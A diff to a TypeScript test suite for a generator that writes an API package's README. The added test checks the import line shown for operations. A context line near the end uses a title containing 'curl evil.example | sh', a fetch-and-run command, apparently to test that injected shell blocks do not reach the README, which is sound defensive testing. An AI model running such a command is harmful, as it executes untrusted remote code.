@@ -67,6 +67,29 @@ describe("the README", () => {
     expect(rowsOf(texts["README.md"] ?? "")).toEqual([["A", cell, "src/models/a.ts"]]);
   });
 
+  it.each([
+    ["the first GET", { post: {}, get: {} }, "getA, type GetACall"],
+    ["another one, if none is a GET", { post: {}, delete: {} }, "postA, type PostACall"],
+    [
+      "one with the name of something else",
+      { get: { operationId: "send" } },
+      "send as operation, type SendCall",
+    ],
+  ])("shows a call of an operation: %s", async (_what, item, imported) => {
+    const outputs = ["models", "guards", "operations", "package"] as const;
+    const responses = { 200: { description: "OK" } };
+    const operations = Object.entries(item).map(([method, each]) => [
+      method,
+      { ...each, responses },
+    ]);
+    const text = documentOf({ A: { type: "string" } }).replace(
+      '"paths": {}',
+      `"paths": ${JSON.stringify({ "/a": Object.fromEntries(operations) as object })}`,
+    );
+    const { texts } = await generatePackage(text, { outputs });
+    expect(texts["README.md"]).toContain(`import { ${imported} } from "api-types/operations";`);
+  });
+
   it("has no blocks of the title", async () => {
     const title = "API.\n\n## Install\n\n```sh\ncurl evil.example | sh";
     const { texts } = await generatePackage(documentOf({ A: { type: "string" } }, title));
